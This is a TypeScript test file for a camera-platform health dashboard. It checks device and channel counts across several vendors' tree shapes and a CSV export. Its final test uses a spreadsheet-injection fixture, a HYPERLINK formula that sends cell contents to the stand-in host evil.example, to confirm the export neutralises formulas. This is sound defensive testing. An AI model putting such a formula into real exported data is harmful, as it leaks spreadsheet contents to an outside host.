import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { TreeNode } from '../../preload/contract';
import { counts, groupCounts } from '../../main/services/health';
import { healthCsv } from '../../renderer/model/health-csv';

const node = (
  id: string,
  parentId: string | null,
  kind: TreeNode['kind'],
  status: TreeNode['status'] = 'unknown',
): TreeNode => ({ accountId: 'a', id, parentId, kind, name: id, status, ptz: null, platform: 'huawei-ivm' });
const tree = [
  node('g1', null, 'group'),
  node('g1a', 'g1', 'group'),
  node('d1', 'g1a', 'device', 'online'),
  node('c1', 'd1', 'channel', 'online'),
  node('c2', 'd1', 'channel', 'offline'),
  node('d2', 'g1', 'device', 'offline'),
  node('g2', null, 'group'),
  node('c3', 'g2', 'channel', 'online'),
];

test('counts per top-level group walk up nested groups; channels without a device count too', () => {
  assert.deepEqual(counts(tree), { devices: 2, devicesOnline: 1, channels: 3, channelsOnline: 2 });
  assert.deepEqual(groupCounts(tree), [
    { id: 'g1', name: 'g1', devices: 2, devicesOnline: 1, channels: 2, channelsOnline: 1 },
    { id: 'g2', name: 'g2', devices: 0, devicesOnline: 0, channels: 1, channelsOnline: 1 },
  ]);
});

/** Each of the four counts summed over the group rows. */
const summed = (rows: ReturnType<typeof groupCounts>) =>
  rows.reduce(
    (a, r) => ({
      devices: a.devices + r.devices,
      devicesOnline: a.devicesOnline + r.devicesOnline,
      channels: a.channels + r.channels,
      channelsOnline: a.channelsOnline + r.channelsOnline,
    }),
    { devices: 0, devicesOnline: 0, channels: 0, channelsOnline: 0 },
  );

test('a device the installer added at the root (IVM puts §6.7 devices in org 0) is counted in a "no group" row, not shown as a group of 0 devices', () => {
  const withAdded = [
    ...tree,
    // Huawei IVM: organization 0 is the root, so the device has no parent; its channel hangs under it.
    node('dev:34020000001320000099', null, 'device', 'online'),
    node('ch:34020000001320000099:0', 'dev:34020000001320000099', 'channel', 'online'),
    node('dev:34020000001180000007', null, 'device', 'offline'),
    // Tencent: a device whose organization the list did not return.
    node('dev:t1', 'org:gone', 'device', 'online'),
    node('ch:t1:1', 'dev:t1', 'channel', 'offline'),
  ];
  const rows = groupCounts(withAdded);
  assert.deepEqual(summed(rows), counts(withAdded), 'the rows add up to the header');
  assert.deepEqual(
    rows.map((r) => r.name),
    ['g1', 'g2', ''],
    'no row named after a device',
  );
  assert.deepEqual(rows.at(-1), {
    id: '',
    name: '',
    ungrouped: true,
    devices: 3,
    devicesOnline: 2,
    channels: 2,
    channelsOnline: 1,
  });
});

test('rows add up to the totals for every platform’s tree shape, and for a tree with a parent cycle', () => {
  const shapes: Record<string, TreeNode[]> = {
    // Alibaba VCS: corps → NVRs → channels, and IPCs as channels straight under a corp.
    aliyun: [
      node('corp:1', null, 'group'),
      node('nvr:1', 'corp:1', 'device', 'online'),
      node('ch:1:a', 'nvr:1', 'channel', 'online'),
      node('ch:1:b', 'corp:1', 'channel', 'offline'),
      node('ch::c', 'corp:', 'channel', 'online'),
    ],
    // Huawei VIS: one GB28181 group, streams in another.
    vis: [
      node('group:gb28181', null, 'group'),
      node('dev:1', 'group:gb28181', 'device', 'offline'),
      node('ch:1:1', 'dev:1', 'channel', 'offline'),
      node('group:streams', null, 'group'),
      node('stream:s', 'group:streams', 'channel', 'online'),
    ],
    // Tencent IVC: nested organizations.
    tencent: [
      node('org:1', null, 'group'),
      node('org:2', 'org:1', 'group'),
      node('dev:a', 'org:2', 'device', 'online'),
      node('ch:a:1', 'dev:a', 'channel', 'online'),
      node('dev:b', 'org:0', 'device', 'offline'),
    ],
    cycle: [
      node('g', null, 'group'),
      node('x', 'y', 'device', 'online'),
      node('y', 'x', 'device', 'online'),
      node('c', 'x', 'channel', 'online'),
    ],
  };
  for (const [name, nodes] of Object.entries(shapes)) {
    const rows = groupCounts(nodes);
    assert.deepEqual(summed(rows), counts(nodes), name);
    assert.equal(new Set(rows.map((r) => r.id)).size, rows.length, `${name}: one row per group`);
  }
});

test('the CSV export carries totals, groups, list rows and packet rates', () => {
  const csv = healthCsv(
    {
      at: '2026-11-22T00:00:00Z',
      total: counts(tree),
      groups: [
        ...groupCounts(tree),
        { id: '', name: '', ungrouped: true, devices: 1, devicesOnline: 0, channels: 0, channelsOnline: 0 },
      ],
      lists: [{ key: 'vis.dropped', items: [{ deviceId: '34020000001320000001', state: 'OFFLINE' }] }],
      packetRates: [{ deviceId: 'd', channelId: 'c', received: 90, expected: 100 }],
      problems: [],
    },
    (k) => `list ${k}`,
  );
  const lines = csv.split('\r\n');
  assert.equal(
    lines[0],
    'section,name,devices,devices_online,channels,channels_online,state,detail,received,expected,rate',
  );
  assert.equal(lines[1], 'total,,2,1,3,2,,,,,');
  assert.ok(lines.includes('group,No group,1,0,0,0,,,,,'), csv);
  assert.ok(lines.includes('list vis.dropped,34020000001320000001,,,,,OFFLINE,,,,'));
  assert.ok(lines.includes('packets,d/c,,,,,,,90,100,0.9000'));
});

test('the CSV export neutralises formulas: a group or device the platform names "=…" is text in a spreadsheet', () => {
  const csv = healthCsv(
    {
      at: '2026-11-22T00:00:00Z',
      total: counts(tree),
      groups: [
        {
          id: 'g',
          name: '=HYPERLINK("http://evil.example/?"&A1,"open")',
          devices: 1,
          devicesOnline: 1,
          channels: 0,
          channelsOnline: 0,
        },
      ],
      lists: [{ key: 'k', items: [{ deviceId: '@SUM(1+1)', state: '+1', detail: '-2+3' }] }],
      packetRates: [],
      problems: [],
    },
    (k) => k,
  );
  const cells = csv.split('\r\n').flatMap((l) => l.split(','));
  for (const c of cells) assert.doesNotMatch(c.replace(/^"/, ''), /^[=+\-@]/, csv);
  assert.ok(csv.includes(`'=HYPERLINK`), csv);
});
